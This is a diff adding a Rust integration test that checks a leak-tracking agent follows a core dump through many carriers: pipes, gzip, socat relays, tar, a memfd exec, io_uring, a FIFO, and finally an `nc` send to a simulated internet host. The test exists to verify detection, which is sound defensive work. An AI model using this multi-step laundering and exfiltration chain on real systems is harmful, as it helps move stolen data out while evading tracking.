@@ -7,14 +7,17 @@ use serde_json::Value;
 use super::{Shared, birth::identified, network::sshd};
 use crate::harness::{
     expect::step,
-    scene::{SOON, Scene},
+    scene::{SOON, Scene, python},
     world::{
         Zone::{Debug, Internet, Production},
         ip_netns_exec,
     },
 };
 
-pub(super) const ALL: &[Shared] = &[("hops::production_to_debug_to_internet", production_to_debug_to_internet)];
+pub(super) const ALL: &[Shared] = &[
+    ("hops::production_to_debug_to_internet", production_to_debug_to_internet),
+    ("hops::every_means_in_one_chain", every_means_in_one_chain),
+];
 
 fn production_to_debug_to_internet(scene: &Scene<'_>) {
     let dump = scene.core();
@@ -60,4 +63,72 @@ fn told(scene: &Scene<'_>, dump: &str) {
     assert!(list.status.success() && String::from_utf8(list.stdout).unwrap().contains(&dump[..8]));
     let unknown = scene.agent.verb(&["trail", "00000000000000000000000000000000"]);
     assert_eq!(unknown.status.code(), Some(1), "{unknown:?}");
+}
+
+/// Fills a memory file, then becomes another program, which gets that and nothing else.
+const MEMORY_FILE: &str = "
+m = os.memfd_create('kept', 0); os.write(m, open(a, 'rb').read())
+os.execv(sys.executable, [sys.executable, '-c', ring, f'/proc/self/fd/{m}', b])";
+
+/// File, pipe, gzip, file, another name, copy, unix relay, archive, memory file over exec, io_uring, FIFO, TCP: the last
+/// step knows where it all began, and the trail has every carrier.
+fn every_means_in_one_chain(scene: &Scene<'_>) {
+    let dump = scene.core();
+    let [packed, moved, copy, socket, relayed, archive, ringed, fifo] =
+        ["packed", "moved", "copy", "socket", "relayed", "archive.tar", "ringed", "fifo"].map(|name| scene.path(name));
+    scene.shell(Production, &format!("cat {} | gzip -1 > {packed}", dump.path));
+    scene.run(Production, "mv", &[&packed, &moved]);
+    let by_name = scene.sees(&dump, &step(StepKind::Renamed).from(&packed).to(&moved));
+    scene.run(Production, "cp", &[&moved, &copy]);
+    let relay = format!(
+        "socat -u UNIX-LISTEN:{socket} CREATE:{relayed} & until [ -S {socket} ]; do sleep 0.01; done; socat -u OPEN:{copy} UNIX-CONNECT:{socket}; wait"
+    );
+    scene.shell(Production, &relay);
+    scene.run(Production, "tar", &["-cf", &archive, &relayed]);
+    let ring = format!("import os, sys, mmap\na, b = sys.argv[1:]\nmode = 'plain'\n{}", include_str!("uring.py"));
+    by_python(scene, &archive, &ringed, &format!("ring = {ring:?}{MEMORY_FILE}"));
+    scene.run(Production, "mkfifo", &[&fifo]);
+    let (mut sink, port) = scene.sink(Internet, Production, 2_000_000);
+    let address = Internet.address(Production);
+    scene.shell(Production, &format!("cat {ringed} > {fifo} & nc -N {address} {port} < {fifo}; wait"));
+    assert!(sink.within(SOON).success());
+    let home = |kind, via: Via| step(kind).via(via).zones("production", "production").sure(Confidence::Direct);
+    let python = format!("{}[]", python().file_name().unwrap().to_str().unwrap());
+    let chain = [
+        home(StepKind::Read, Via::File).from(&dump.path).to("cat[]"),
+        home(StepKind::Sent, Via::Pipe).from("cat[]").to("gzip[]"),
+        home(StepKind::Written, Via::File).from("gzip[]"),
+        step(StepKind::Read).from(&moved).to("cp[]"),
+        step(StepKind::Written).from("cp[]").to(&copy),
+        home(StepKind::Read, Via::File).from(&copy).to("socat[]"),
+        home(StepKind::Sent, Via::Unix).from("socat[]").to("socat[]"),
+        home(StepKind::Written, Via::File).from("socat[]").to(&relayed),
+        home(StepKind::Read, Via::File).from(&relayed).to("tar[]"),
+        home(StepKind::Written, Via::File).from("tar[]").to(&archive),
+        home(StepKind::Read, Via::File).from(&archive),
+        home(StepKind::Written, Via::File).from(&python),
+        home(StepKind::Read, Via::IoUring).to(&python),
+        home(StepKind::Written, Via::IoUring).to(&ringed),
+        home(StepKind::Read, Via::File).from(&ringed).to("cat[]"),
+        home(StepKind::Sent, Via::Pipe).from("cat[]").to("nc[]"),
+    ];
+    let mut hops: Vec<u32> = chain.iter().map(|wanted| scene.sees(&dump, wanted).hops).collect();
+    let last =
+        step(StepKind::Sent).via(Via::Tcp).from("nc[]").zones("production", "internet").destination(address, port);
+    let alert = scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &last.sure(Confidence::Direct));
+    hops.push(alert.step.hops);
+    assert!(hops.is_sorted_by(|a, b| a < b) && hops.len() > 12, "hops rise: {hops:?}");
+    assert_eq!((alert.step.victim, alert.step.origin_zone.as_deref()), (Some(dump.victim), Some("production")));
+    assert_eq!(by_name.hops, hops[2], "a name is no hop");
+    let tree = scene.agent.verb(&["trail", &dump.id]);
+    let tree = String::from_utf8(tree.stdout).unwrap();
+    for carrier in [&moved, &copy, &relayed, &archive, &ringed] {
+        assert!(tree.contains(carrier.as_str()), "{carrier} is not in the trail:\n{tree}");
+    }
+    assert!(tree.contains(&address.to_string()), "{tree}");
+}
+
+fn by_python(scene: &Scene<'_>, from: &str, to: &str, line: &str) {
+    let script = format!("import os, sys\na, b = sys.argv[1:]\n{line}");
+    scene.run(Production, python().to_str().unwrap(), &["-c", &script, from, to]);
 }
